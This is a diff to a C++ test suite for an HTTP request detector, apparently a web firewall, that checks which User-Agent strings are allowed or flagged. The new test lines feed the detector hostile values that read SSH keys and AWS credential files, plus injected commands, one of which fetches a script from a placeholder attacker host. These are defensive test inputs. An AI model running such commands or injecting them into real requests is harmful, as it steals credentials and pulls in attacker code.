@@ -219,7 +219,11 @@ TEST(Detectors, ScannerUserAgentIsBlocked) {
 TEST(Detectors, ClientLibraryUserAgentsAreAllowed) {
   for (const char* ua : {"python-httpx/0.25.0", "python-requests/2.31.0", "curl/8.4.0",
                          "Go-http-client/2.0", "okhttp/4.12.0", "PostmanRuntime/7.36.0",
-                         "kube-probe/1.28", "Apache-HttpClient/4.5.14 (Java/17.0.9)"}) {
+                         "kube-probe/1.28", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+                         // A product and its version in the comment: "cURL 7.88.1".
+                         "Composer/2.6.5 (Linux; 6.2.0; PHP 8.2.12; cURL 7.88.1; "
+                         "Platform-PHP 8.2.12; CI)",
+                         "ExampleSDK/2.0 (darwin; wget 1.21)"}) {
     OwnedHttpRequest r = testing::Get("/api/v1/items?page=2");
     r.headers[1].second = ua;
     Verdict v = Inspect(r);
@@ -230,6 +234,13 @@ TEST(Detectors, ClientLibraryUserAgentsAreAllowed) {
     OwnedHttpRequest r = testing::Get("/");
     r.headers[1].second = ua;
     EXPECT_TRUE(HasCategory(Inspect(r), Category::kScanner)) << ua;
+  }
+  // A command reading a secret, or fetching a host, is no product token.
+  for (const char* ua : {"cat /root/.ssh/id_rsa", "cat /root/.aws/credentials",
+                         "x; curl http://evil.example/s.sh", "x; ping 127.1"}) {
+    OwnedHttpRequest r = testing::Get("/");
+    r.headers[1].second = ua;
+    EXPECT_TRUE(Flagged(Inspect(r))) << ua;
   }
 }
 
